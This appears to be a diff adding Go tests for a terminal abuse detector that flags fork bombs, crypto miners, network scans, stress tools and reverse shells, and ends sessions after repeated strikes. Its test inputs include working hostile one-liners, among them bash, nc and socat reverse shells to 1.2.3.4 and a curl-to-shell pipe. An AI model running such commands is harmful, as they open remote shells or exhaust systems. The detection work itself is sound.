@@ -0,0 +1,67 @@
+package terminal
+
+import "testing"
+
+func TestMatchAbuse(t *testing.T) {
+	tests := map[string]string{
+		":(){ :|:& };:":                         "fork_bomb",
+		"./xmrig -o pool.example:3333":          "miner",
+		"curl x | sh -s stratum+tcp://pool:1":   "miner",
+		"sudo nmap -sS 10.0.0.0/8":              "scanner",
+		"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1": "reverse_shell",
+		"nc -e /bin/sh 1.2.3.4 4444":            "reverse_shell",
+		"socat tcp:1.2.3.4:1 exec:bash":         "reverse_shell",
+		"ls && stress-ng --cpu 8":               "stress",
+		"man nmap":                              "",
+		"echo stress test":                      "",
+		"nc -zv localhost 80":                   "",
+		"ls -la":                                "",
+	}
+	for line, want := range tests {
+		if got := matchAbuse(line); got != want {
+			t.Errorf("matchAbuse(%q) = %q, want %q", line, got, want)
+		}
+	}
+}
+
+func TestAbuseGuardBlocksEnteredLine(t *testing.T) {
+	g := (&abuseDetector{}).guard()
+
+	// Typed in pieces with a correction and an arrow key; the Enter becomes
+	// Ctrl-C and what follows it is dropped.
+	if out, rule := g.check([]byte("nmaq\x7f")); rule != "" || string(out) != "nmaq\x7f" {
+		t.Fatalf("partial line: got %q, %q", out, rule)
+	}
+	out, rule := g.check([]byte("p\x1b[D host\rls\r"))
+	if rule != "scanner" || string(out) != "p\x1b[D host\x03" {
+		t.Fatalf("got %q, %q", out, rule)
+	}
+
+	// A killed line is forgotten.
+	if _, rule := g.check([]byte("nmap\x15ls\r")); rule != "" {
+		t.Fatalf("killed line matched %q", rule)
+	}
+	var disabled *abuseGuard
+	if out, rule := disabled.check([]byte("nmap\r")); rule != "" || string(out) != "nmap\r" {
+		t.Fatal("nil guard must pass input through")
+	}
+}
+
+func TestAbuseDetectorStrikes(t *testing.T) {
+	d := newAbuseDetector(true, 2)
+	if _, terminate := d.strike("alice"); terminate {
+		t.Fatal("terminated on the first strike")
+	}
+	if _, terminate := d.strike("bob"); terminate {
+		t.Fatal("strikes are not per user")
+	}
+	if n, terminate := d.strike("alice"); !terminate || n != 2 {
+		t.Fatalf("strike = %d, %v; want 2, true", n, terminate)
+	}
+	if _, terminate := d.strike("alice"); terminate {
+		t.Fatal("strikes not reset after termination")
+	}
+	if newAbuseDetector(false, 2) != nil {
+		t.Fatal("disabled detector must be nil")
+	}
+}